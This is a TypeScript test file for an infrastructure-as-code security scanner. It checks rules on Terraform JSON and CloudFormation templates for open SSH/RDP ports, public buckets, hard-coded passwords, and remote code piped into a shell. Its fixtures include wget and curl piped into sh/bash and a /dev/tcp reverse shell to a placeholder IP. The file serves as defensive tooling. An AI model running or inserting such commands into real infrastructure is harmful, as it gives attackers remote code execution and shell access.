import * as assert from 'node:assert/strict';
import { BUILTIN_RULES } from '../../../src/engine/rules/index';
import adminPort from '../../../src/engine/rules/admin-port-open-to-internet';
import hardCodedPassword from '../../../src/engine/rules/hard-coded-password';
import remoteCode from '../../../src/engine/rules/remote-code-piped-into-shell';
import reverseShell from '../../../src/engine/rules/reverse-shell';
import storageReadable from '../../../src/engine/rules/storage-readable-by-anyone';
import { ruleTester } from '../rule-tester';

/**
 * The built-in rules on the JSON formats: Terraform JSON as CDKTF writes it and CloudFormation
 * JSON templates. Each family (network, scripts, attack tooling, storage) has a flagged case and a clean look-alike; the rules themselves
 * are tested in full on HCL and YAML in their own files.
 */

const windowsJson = `{
  "AWSTemplateFormatVersion": "2010-09-09",
  "Resources": {
    "WindowsSg": {
      "Type": "AWS::EC2::SecurityGroup",
      "Properties": {
        "GroupDescription": "Windows admin",
        "SecurityGroupIngress": [{ "IpProtocol": "tcp", "FromPort": 3389, "ToPort": 3389, "CidrIp": "0.0.0.0/0" }]
      }
    }
  }
}
`;

ruleTester.run(adminPort, {
	flagged: [
		{
			name: 'SSH open to the world in a Terraform JSON ingress list',
			path: 'cdk.tf.json',
			source: `{
  "resource": {
    "aws_security_group": {
      "bastion": {
        "ingress": [
          { "from_port": 22, "to_port": 22, "protocol": "tcp", "cidr_blocks": ["0.0.0.0/0"] }
        ]
      }
    }
  }
}
`,
			// Terraform JSON is what CDKTF synthesizes: no fix, the range belongs in the CDK code.
			findings: [{ ruleId: 'AUP-NET-001', line: 5, character: 80, endLine: 5, endCharacter: 89, text: '0.0.0.0/0', message: /^SSH \(22\) is open to the whole internet \(0\.0\.0\.0\/0\) in aws_security_group\.bastion\./ }],
		},
		{
			name: 'SSH open to the world in the content of a dynamic ingress block of Terraform JSON',
			path: 'cdk.tf.json',
			source: `{
  "resource": {
    "aws_security_group": {
      "jump": {
        "dynamic": {
          "ingress": {
            "for_each": "\${var.hosts}",
            "content": { "from_port": 22, "to_port": 22, "protocol": "tcp", "cidr_blocks": ["0.0.0.0/0"] }
          }
        }
      }
    }
  }
}
`,
			findings: [{ ruleId: 'AUP-NET-001', line: 7, character: 93, endLine: 7, endCharacter: 102, text: '0.0.0.0/0', message: /^SSH \(22\) is open to the whole internet \(0\.0\.0\.0\/0\) in aws_security_group\.jump\./ }],
		},
		{
			name: 'RDP open to the world in a CloudFormation JSON template',
			path: 'stack.json',
			source: windowsJson,
			findings: [{
				ruleId: 'AUP-NET-001', line: 7, character: 101, endLine: 7, endCharacter: 110, text: '0.0.0.0/0', message: /^RDP \(3389\) is open to the whole internet \(0\.0\.0\.0\/0\) in AWS::EC2::SecurityGroup 'WindowsSg'\./,
				// The template had no parameters: the section is created above the resources, in the file's indentation.
				fixed: [`{
  "AWSTemplateFormatVersion": "2010-09-09",
  "Parameters": {
    "WindowsSgAllowedCidr": {
      "Type": "String",
      "Description": "Source range (CIDR) allowed to reach AWS::EC2::SecurityGroup 'WindowsSg' instead of the whole internet",
      "AllowedPattern": "^(\\\\d{1,3}\\\\.){3}\\\\d{1,3}/([1-9]|[12]\\\\d|3[0-2])$",
      "ConstraintDescription": "An IPv4 range in CIDR notation other than 0.0.0.0/0, such as 203.0.113.0/24"
    }
  },
  "Resources": {
    "WindowsSg": {
      "Type": "AWS::EC2::SecurityGroup",
      "Properties": {
        "GroupDescription": "Windows admin",
        "SecurityGroupIngress": [{ "IpProtocol": "tcp", "FromPort": 3389, "ToPort": 3389, "CidrIp": { "Ref": "WindowsSgAllowedCidr" } }]
      }
    }
  }
}
`],
			}],
		},
	],
	clean: [
		{
			name: 'HTTPS open to the world and SSH from a variable in Terraform JSON',
			path: 'cdk.tf.json',
			source: `{
  "resource": {
    "aws_security_group": {
      "web": {
        "ingress": [
          { "from_port": 443, "to_port": 443, "protocol": "tcp", "cidr_blocks": ["0.0.0.0/0"] },
          { "from_port": 22, "to_port": 22, "protocol": "tcp", "cidr_blocks": ["\${var.office_cidr}"] }
        ]
      }
    }
  }
}
`,
		},
		{
			name: 'RDP from a template parameter in CloudFormation JSON',
			path: 'stack.json',
			source: `{
  "AWSTemplateFormatVersion": "2010-09-09",
  "Parameters": { "AdminCidr": { "Type": "String", "Default": "0.0.0.0/0" } },
  "Resources": {
    "WindowsSg": {
      "Type": "AWS::EC2::SecurityGroup",
      "Properties": {
        "GroupDescription": "Windows admin",
        "SecurityGroupIngress": [{ "IpProtocol": "tcp", "FromPort": 3389, "ToPort": 3389, "CidrIp": { "Ref": "AdminCidr" } }]
      }
    }
  }
}
`,
		},
	],
});

ruleTester.run(remoteCode, {
	flagged: [
		{
			name: 'wget piped into sh in CloudFormation JSON UserData built with Fn::Join',
			path: 'web.template',
			source: `{
  "AWSTemplateFormatVersion": "2010-09-09",
  "Resources": {
    "Web": {
      "Type": "AWS::EC2::Instance",
      "Properties": {
        "ImageId": "ami-0c55b159cbfafe1f0",
        "UserData": { "Fn::Base64": { "Fn::Join": ["", [
          "#!/bin/bash -xe\\n",
          "wget -qO- http://203.0.113.7/setup.sh | sh\\n",
          "/opt/aws/bin/cfn-signal -e $? --stack ", { "Ref": "AWS::StackName" }, "\\n"
        ]] } }
      }
    }
  }
}
`,
			findings: [{ ruleId: 'AUP-EXE-001', line: 9, character: 11, endLine: 9, endCharacter: 53, text: 'wget -qO- http://203.0.113.7/setup.sh | sh', message: /^This script \('UserData' of AWS::EC2::Instance 'Web'\) runs code downloaded from the network/ }],
		},
		{
			name: 'curl piped into bash in Terraform JSON user_data, after an escaped quote',
			path: 'main.tf.json',
			source: `{
  "resource": {
    "aws_instance": {
      "app": {
        "ami": "ami-0c55b159cbfafe1f0",
        "user_data": "#!/bin/bash\\necho \\"installing\\"\\ncurl -fsSL https://get.example-tools.io/install.sh | bash\\n"
      }
    }
  }
}
`,
			findings: [{ ruleId: 'AUP-EXE-001', line: 5, character: 56, endLine: 5, endCharacter: 113, text: 'curl -fsSL https://get.example-tools.io/install.sh | bash' }],
		},
	],
	clean: [
		{
			name: 'the same commands in a CloudFormation JSON Description and a download checked before it runs',
			path: 'web.template',
			source: `{
  "AWSTemplateFormatVersion": "2010-09-09",
  "Description": "Never run wget -qO- http://203.0.113.7/setup.sh | sh on a server",
  "Resources": {
    "Web": {
      "Type": "AWS::EC2::Instance",
      "Properties": {
        "ImageId": "ami-0c55b159cbfafe1f0",
        "UserData": { "Fn::Base64": { "Fn::Join": ["\\n", [
          "#!/bin/bash -xe",
          "curl -fsSLo /tmp/setup.sh https://downloads.example.com/setup-1.4.2.sh",
          "echo 'b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c  /tmp/setup.sh' | sha256sum -c -",
          "bash /tmp/setup.sh"
        ]] } }
      }
    }
  }
}
`,
		},
		{
			name: 'a Terraform JSON description that mentions curl | bash',
			path: 'main.tf.json',
			source: `{
  "resource": {
    "aws_instance": {
      "app": {
        "ami": "ami-0c55b159cbfafe1f0",
        "tags": { "Note": "bootstrapped without curl | bash" }
      }
    }
  }
}
`,
		},
	],
});

ruleTester.run(reverseShell, {
	flagged: [
		{
			name: 'a /dev/tcp reverse shell in a Terraform JSON provisioner',
			path: 'cdk.tf.json',
			source: `{
  "resource": {
    "null_resource": {
      "debug": {
        "provisioner": [{ "remote-exec": { "inline": ["bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"] } }]
      }
    }
  }
}
`,
			findings: [{ ruleId: 'AUP-ATK-001', line: 4, character: 55, endLine: 4, endCharacter: 97, text: 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1' }],
		},
	],
	clean: [
		{
			name: 'a health check over /dev/tcp in a Terraform JSON provisioner',
			path: 'cdk.tf.json',
			source: `{
  "resource": {
    "null_resource": {
      "wait": {
        "provisioner": [{ "remote-exec": { "inline": ["timeout 60 bash -c 'until echo > /dev/tcp/10.0.1.20/5432; do sleep 2; done'"] } }]
      }
    }
  }
}
`,
		},
	],
});

const BUCKET_ACL = (acl: string): string => `{
  "resource": {
    "aws_s3_bucket_acl": {
      "site": { "bucket": "\${aws_s3_bucket.site.id}", "acl": "ACL" }
    }
  }
}
`.replace('ACL', acl);

ruleTester.run(storageReadable, {
	flagged: [
		{
			name: 'a public-read bucket ACL in Terraform JSON, made private by its fix without breaking the JSON',
			path: 'cdk.tf.json',
			source: BUCKET_ACL('public-read'),
			findings: [{ ruleId: 'AUP-STO-001', line: 3, character: 62, endLine: 3, endCharacter: 73, text: 'public-read', fixed: [BUCKET_ACL('private')] }],
		},
	],
	clean: [
		{ name: 'a private bucket ACL in Terraform JSON', path: 'cdk.tf.json', source: BUCKET_ACL('private') },
	],
});

describe('Terraform JSON coverage', () => {
	it('every built-in rule that reads Terraform also reads Terraform JSON, whose model is shaped the same', () => {
		// Terraform rejects comments in .tf.json, so the suppression rule has nothing to check there.
		const missing = BUILTIN_RULES
			.filter(rule => rule.formats.includes('terraform') && !rule.formats.includes('terraform-json') && rule.id !== 'AUP-SUP-001')
			.map(rule => rule.id);
		assert.deepEqual(missing, [], 'add \'terraform-json\' after \'terraform\' in these rules\' formats');
	});
});

ruleTester.run(hardCodedPassword, {
	flagged: [
		{
			name: 'a password written as a Terraform JSON variable default is named after the variable',
			path: 'variables.tf.json',
			source: `{
  "variable": {
    "db_password": { "type": "string", "default": "orders-2026" }
  }
}
`,
			findings: [{ ruleId: 'AUP-CRD-003', line: 2, character: 51, endLine: 2, endCharacter: 62, text: 'orders-2026', message: /^Password written in 'db_password' in this file/ }],
		},
	],
	clean: [
		{
			name: 'a Terraform JSON variable marked sensitive with no default',
			path: 'variables.tf.json',
			source: `{
  "variable": {
    "db_password": { "type": "string", "sensitive": true }
  }
}
`,
		},
	],
});
